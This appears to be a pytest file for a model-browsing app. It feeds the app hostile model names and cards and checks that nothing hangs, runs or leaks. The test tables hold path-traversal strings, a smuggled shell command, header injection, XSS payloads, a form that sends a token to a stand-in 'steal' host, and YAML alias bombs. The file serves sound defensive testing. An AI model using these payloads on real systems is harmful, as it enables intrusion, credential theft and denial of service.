"""What people type and what makers publish, at its worst: one sentence each, and nothing hangs, runs or leaks.

One row for each kind of bad input; broken models have a table of their own in `test_bad_models.py`.
"""

from __future__ import annotations

import asyncio
import re
import subprocess
import sys
import tempfile
import time
from collections.abc import AsyncIterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import pytest_asyncio
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from components.browse_actions import BrowseActions
from components.browsing import Browsing
from components.stage_actions import StageActions
from swatchbook.library import Library
from swatchbook.settings import ROOT, AppSettings
from tests.fake_hub import FakeHub, Repo
from tests.fake_hub.cards import card

PATIENCE = 20.0
"""Seconds in which anything is answered."""
FORBIDDEN = re.compile(
    r"<(script|img|iframe|form|input|style|svg|math|object|embed|base|link|meta)\b|javascript:|\son\w+\s*=|http://192\.0\.2\.1",
    re.IGNORECASE,
)


@pytest_asyncio.fixture
async def actions(light_hub: FakeHub, tmp_path: Path) -> AsyncIterator[StageActions]:
    library = Library(AppSettings(hub=light_hub.address, viewer=light_hub.viewer, data=tmp_path / "data"))
    yield StageActions(library)
    library.close()


async def opened(actions: StageActions, name: str) -> str:
    """All the markup that opening this model puts on the page."""
    async with asyncio.timeout(PATIENCE):
        shown = [each async for each in actions.read(Browsing(), name)]
    return "\n".join(part["html"] for part in shown[-1]["parts"])


def sentence(markup: str) -> str:
    """The notice in the markup; there has to be exactly one, and it has to be one sentence."""
    (said,) = re.findall(r'<div class="notice" role="alert"><p>(.*?)</p></div>', markup, re.DOTALL)
    assert said.endswith(".")
    assert len(said) < 300
    assert not re.search(r"[.!?] [A-Z]", said), said
    assert not re.search(r"Traceback|site-packages|127\.0\.0\.1|\.py\b", said)
    assert not any(place in said for place in (str(ROOT), tempfile.gettempdir()))
    return said


NAMES = {
    "empty": "",
    "spaces": "   ",
    "absolute": "/etc/passwd",
    "up and away": "../../etc/passwd",
    "up inside": "lantern/..",
    "dots": "lantern/em..ber",
    "NUL": "lantern/em\0ber",
    "newline": "lantern/ember\nX-Injected: yes",
    "carriage return": "lantern/ember\r\n\r\nGET /",
    "ten thousand characters": "a/" + "b" * 10_000,
    "right to left": "lantern/\u202eember",
    "zero width": "lantern/\u200bember",
    "emoji": "lantern/\U0001f525",
    "a web address": "https://example.com/lantern/ember",
    "an address that is none": "http://",
    "a file address": "file:///etc/passwd",
    "three parts": "a/b/c",
    "query": "lantern/ember?expand=x",
    "fragment": "lantern/ember#x",
    "percent": "lantern/%2e%2e",
    "markup": "<img src=x onerror=alert(1)>",
    "a revision that is none": "lantern/ember@main;rm",
    "a commit that is none": "lantern/ember@zzzzzzz",
    "a commit that is not there": "swatchbook-house/cook@" + "0" * 40,
    "a dataset": "lantern/harbour-letters",
    "a Space": "lantern/harbour-chat",
    "a local folder": "assets/house",
    "a house model that is none": "house/nobody",
    "a house model's path": "house/../../etc",
    "another scheme": "remote/model",
    "nobody": "no/body",
}


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES.keys())
async def test_a_name_that_names_nothing(actions: StageActions, name: str) -> None:
    began = time.monotonic()
    markup = await opened(actions, name)
    assert time.monotonic() - began < PATIENCE
    sentence(markup)
    assert not FORBIDDEN.search(markup)


async def test_a_name_never_becomes_another_request(actions: StageActions, light_hub: FakeHub) -> None:
    for name in NAMES.values():
        await opened(actions, name)
    for asked in light_hub.log:
        assert re.fullmatch(r"/api/models/[\w.-]+(/[\w.-]+)?(/revision/[0-9a-f]+)?(\?expand=\S+)?", asked.target), (
            asked.target
        )


CARDS = {
    "five megabytes": "# Long\n\n" + "word " * 1_000_000,
    "one line of five megabytes": "x" * 5_000_000,
    "scripts": "<script>alert(1)</script>\n\n<svg onload=alert(1)></svg>\n\n<a href='javascript:alert(1)'>go</a>",
    "links that act": "[a](javascript:alert(1)) [b](data:text/html,x) [c](vbscript:x) [d](http://ok.example/)",
    "forms": "<form action=http://192.0.2.1/steal><input name=token><button>Sign in</button></form>",
    "remote images": "![one](http://192.0.2.1/x.png) <img src=http://192.0.2.1/y.png>",
    "styles": "<style>@import 'http://192.0.2.1/x.css'</style><div style='position:fixed;inset:0'>over all</div>",
    "templates": "${alert(1)} {{constructor.constructor('alert(1)')()}} `${1}`",
    "brackets": "[" * 20_000 + "x" + "]" * 20_000,
    "nested quotes": ">" * 5_000 + " deep",
    "bytes that are no text": b"\xff\xfe# \x80\x81 broken \xf0\x28\x8c\x28",
    "controls and directions": "# A\u202eB\u0000\u0007\u200b",
    "an empty card": "",
    "front matter without an end": "---\nlicense: mit\n# never closed",
    "front matter that is a list": "---\n- a\n- b\n---\ntext",
    "front matter that merges itself without end": "---\na0: &a0 {k: v}\n"
    + "".join(f"a{n}: &a{n}\n  <<: [*a{n - 1}, *a{n - 1}]\n" for n in range(1, 40))
    + "---\ntext",
    "front matter full of aliases": "---\na: &a [x,x,x]\nb: &b [*a,*a,*a]\nc: [*b,*b,*b]\nlicense: mit\n---\ntext",
}


@pytest.mark.parametrize("text", CARDS.values(), ids=CARDS.keys())
async def test_a_card_at_its_worst(actions: StageActions, light_hub: FakeHub, text: str | bytes) -> None:
    light_hub.add(
        Repo("some/body", {"README.md": text, "config.json": '{"model_type": "llama"}'}, info={"cardData": {}})
    )
    began = time.monotonic()
    markup = await opened(actions, "some/body")
    assert time.monotonic() - began < PATIENCE
    assert "body</h2>" in markup
    shown = re.sub(r'<a href="http://127[^>]*>', "", markup)
    assert not FORBIDDEN.search(unescaped_tags(shown))
    assert len(markup) < 1_000_000


def unescaped_tags(markup: str) -> str:
    """The tags of the markup alone: text between them is escaped and may say anything."""
    return "".join(re.findall(r"<[^>]*>", markup))


anything = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20) | st.just("<script>x</script>"),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)
FIELDS = (
    "author", "sha", "lastModified", "createdAt", "gated", "disabled", "downloads", "likes", "library_name",
    "pipeline_tag", "tags", "cardData", "config", "safetensors", "spaces", "baseModels", "childrenModelCount",
    "evalResults", "model-index", "siblings", "usedStorage", "transformersInfo", "gguf",
)  # fmt: skip
WRONG: tuple[Any, ...] = (
    None,
    True,
    -1,
    10**30,
    float("inf"),
    "",
    "x" * 5000,
    [],
    [[[]]],
    {},
    {"a": {"b": []}},
    ["<b>"],
)


@pytest.mark.parametrize("field", FIELDS)
async def test_metadata_of_the_wrong_type(actions: StageActions, light_hub: FakeHub, field: str) -> None:
    files = {"README.md": card("# Body\n", license="mit"), "config.json": '{"model_type": "llama"}'}
    for at, wrong in enumerate(WRONG):
        repo = Repo(f"some/body-{at}", files)
        repo.info[field] = wrong
        light_hub.add(repo)
        markup = await opened(actions, repo.id)
        assert f"body-{at}</h2>" in markup, (field, wrong)
        assert "<b>" not in markup


@settings(max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.dictionaries(st.sampled_from(FIELDS), anything, max_size=len(FIELDS)))
def test_random_metadata_makes_a_dossier(fields: dict[str, Any]) -> None:
    """Without any network: the answers are put where the Hub's would be kept."""
    from components.views.documents import rest_html
    from components.views.dossier import head_html
    from swatchbook.hub.dossier import Parts, Reader
    from swatchbook.hub.errors import Absent
    from swatchbook.hub.fit import judge
    from swatchbook.hub.hub import Answer
    from swatchbook.runs import ModelRef
    from swatchbook.shelf import Pick
    from tests.hub.machines import MACHINE

    reader = Reader(SimpleNamespace(hub=None, remember=lambda _: None))  # type: ignore[arg-type]
    gone = Absent("It is not there.")
    ref = ModelRef(source="hub", repo="some/body")
    dossier = reader._assembled(ref, Parts(Answer({"id": "some/body", **fields}), gone, gone, gone))
    markup = head_html(
        dossier, Pick(ref, dossier.facts, None), judge(dossier.facts, MACHINE), "http://hub"
    ) + rest_html(dossier)
    assert "<script" not in markup


def test_a_card_that_merges_itself_is_read_in_a_moment_on_disk_too(tmp_path: Path) -> None:
    (tmp_path / "README.md").write_text(str(CARDS["front matter that merges itself without end"]))
    program = "import sys, pathlib, swatchbook.hub.here as here; print(here.read_card(pathlib.Path(sys.argv[1])))"
    command = [sys.executable, "-c", program, str(tmp_path)]
    told = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=PATIENCE, check=True)
    assert "text" in told.stdout


async def test_half_a_character_costs_nothing_else(actions: StageActions) -> None:
    from swatchbook.hub.facts import read_facts

    facts = read_facts({"id": "a1/b2", "config": {"model_type": "\ud800"}, "cardData": {"license": "x\udfff"}})
    assert facts is not None
    assert (facts.architecture, facts.licence) == (None, "x")
    assert actions.library.shelf.hue(facts) is None
    sentence(await opened(actions, "a/\ud800"))


async def test_the_whole_entry_may_be_nonsense(actions: StageActions, light_hub: FakeHub) -> None:
    for at, entry in enumerate((None, 5, "x", [], [1], {"id": 5}, {"id": "../x"}, {"id": "a/b", "tags": 5})):
        repo = Repo(f"some/entry-{at}", {"README.md": "# x"})
        repo.info["entry"] = entry
        light_hub.add(repo)
    controls = ["entry-", "", "", "", "", "", "", "", False, "", True, "downloads"]
    shown = [each async for each in BrowseActions(actions.library).search(Browsing(), *controls)]
    assert not shown[-1]["warn"], shown[-1]["status"]
    assert not FORBIDDEN.search(shown[-1]["html"].replace('<input type="checkbox"', ""))
